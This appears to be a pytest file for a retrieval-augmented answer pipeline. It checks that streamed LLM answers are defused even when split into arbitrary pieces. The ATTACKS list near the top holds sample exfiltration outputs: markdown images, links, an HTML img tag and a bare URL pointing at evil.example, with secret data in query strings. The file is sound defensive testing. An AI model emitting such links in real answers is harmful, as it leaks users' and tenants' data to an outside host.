"""Streamed answers: a link or image that carries data out is defused even when split.

A scripted model (an in-process LLM: what it stands for, a remote model streaming arbitrary
pieces, is the stand-in's job in tests/api/test_answer_links.py) streams the answer cut at every
possible place, one character at a time and in random pieces. Whatever the cut, no delta, and
not the deltas joined, may hold the foreign URL's query or the image.
"""

from __future__ import annotations

import random
from collections.abc import AsyncIterator

import pytest

from tenantrag.backends.llm import Completion, Delta, Done, Prompt, StreamEvent
from tenantrag.models import Classification, Principal, Tenant
from tenantrag.pipeline.context import QueryContext
from tenantrag.pipeline.generate import Generate, release_point
from tenantrag.pipeline.postprocess import PostProcess
from tenantrag.retrieval import SearchParams
from tenantrag.settings import LLMSettings

ATTACKS = [
    "Leave is approved by your manager. ![Status. Chart](https://evil.example/p.png?d=leave) Done.",
    "See [the form. Here](https://evil.example/f?data=secret+question) for details. Thanks.",
    'Approved. <img alt="x. y" src="https://evil.example/i.png?q=secret"> More text. End.',
    "Look ![x][ref] now.\n\n[ref]: https://evil.example/r.png?q=secret\n",
    "Visit https://evil.example/collect?q=the+secret+answer. Then stop.",
]
SECRET_MARKS = ("evil.example/p.png", "?d=", "data=secret", "?q=", "i.png", "q=the")


class Scripted:
    """An LLM whose stream is the answer in the given pieces."""

    model = "scripted"

    def __init__(self, pieces: list[str]) -> None:
        self.pieces = pieces

    async def complete(self, prompt: Prompt, *, tenant: str) -> Completion:
        """The whole answer."""
        return Completion("".join(self.pieces), self.model, 1, 1)

    async def stream(self, prompt: Prompt, *, tenant: str) -> AsyncIterator[StreamEvent]:
        """The pieces, then the completion."""
        for piece in self.pieces:
            yield Delta(piece)
        yield Done(await self.complete(prompt, tenant=tenant))


async def streamed(pieces: list[str]) -> tuple[list[str], str]:
    """The deltas a client receives, and the final answer (after stage 6)."""
    sent: list[str] = []

    async def sink(text: str) -> None:
        sent.append(text)

    principal = Principal("acme", "alice", frozenset({"query"}), Classification.INTERNAL)
    ctx = QueryContext(tenant=Tenant(id="acme"), principal=principal, params=SearchParams("q"))
    ctx.question, ctx.deltas = "q", sink
    generate = Generate(Scripted(pieces), LLMSettings())  # type: ignore[arg-type]
    ctx = await PostProcess()(await generate(ctx))
    return sent, ctx.answer


def assert_defused(text: str) -> None:
    for mark in SECRET_MARKS:
        assert mark not in text, f"{mark!r} survived in {text!r}"


@pytest.mark.parametrize("answer", ATTACKS)
async def test_split_one_character_at_a_time(answer: str) -> None:
    """Every cut at once: each delta and the joined deltas are defused; nothing is lost."""
    sent, final = await streamed(list(answer))
    for delta in sent:
        assert_defused(delta)
    assert_defused("".join(sent))
    assert_defused(final)
    assert "".join(sent).split()[0] == answer.split()[0]  # the text around is kept


@pytest.mark.parametrize("answer", ATTACKS)
async def test_split_in_random_pieces(answer: str) -> None:
    """Many random cuts per attack."""
    rng = random.Random(answer)
    for _ in range(30):
        cuts = sorted(rng.sample(range(1, len(answer)), k=min(6, len(answer) - 1)))
        pieces = [answer[a:b] for a, b in zip([0, *cuts], [*cuts, len(answer)], strict=True)]
        sent, final = await streamed(pieces)
        assert_defused("".join(sent))
        assert_defused(final)


async def test_plain_text_and_safe_links_stream_unchanged() -> None:
    """No query, no image: the answer is streamed as written, sentence by sentence."""
    answer = "Leave is approved by the manager. The form is at https://intranet.example/leave. "
    sent, final = await streamed(list(answer))
    assert "".join(sent) == answer
    assert final == answer
    assert len(sent) == 2


def test_release_point_holds_back_what_is_still_open() -> None:
    """A sentence end inside an open link, image or tag is not a place to cut."""
    assert release_point("One. Two") == len("One. ")
    assert release_point("One. ![a. b") == len("One. ")
    assert release_point("One. [a. b](https://x.example/?q=1") == len("One. ")
    assert release_point('One. <img alt="a. b') == len("One. ")
    assert release_point("![a. b") == 0
    done = "See ![a](https://x.example/i.png). Next"
    assert release_point(done) == len("See ![a](https://x.example/i.png). ")
    assert release_point("x < 5 holds. More") == 2  # up to a lone "<", which waits for the line end
    assert release_point("x < 5 holds.\nMore") == len("x < 5 holds.\n")
